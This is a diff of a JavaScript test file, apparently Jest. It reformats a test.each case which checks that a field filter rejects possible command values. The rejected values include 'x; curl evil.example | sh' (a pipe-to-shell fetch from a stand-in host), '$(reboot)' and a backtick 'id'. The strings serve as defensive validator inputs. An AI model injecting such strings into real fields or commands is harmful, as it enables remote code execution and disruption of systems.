@@ -9,9 +9,12 @@ test('a value that fits is let through', () => {
   expect(allowed({ 'unit.name': 'php8.2-fpm' })).toEqual({ 'unit.name': 'php8.2-fpm' })
 })
 
-test.each(['x; curl evil.example | sh', '$(reboot)', 'a b', '`id`', 'x\ny', ''])('a value that could be a command is not: %s', (value) => {
-  expect(allowed({ 'unit.name': value })).toEqual({})
-})
+test.each(['x; curl evil.example | sh', '$(reboot)', 'a b', '`id`', 'x\ny', ''])(
+  'a value that could be a command is not: %s',
+  (value) => {
+    expect(allowed({ 'unit.name': value })).toEqual({})
+  },
+)
 
 test('a fact nobody defined is not let through', () => {
   expect(allowed({ 'unit.owner': 'root' })).toEqual({})
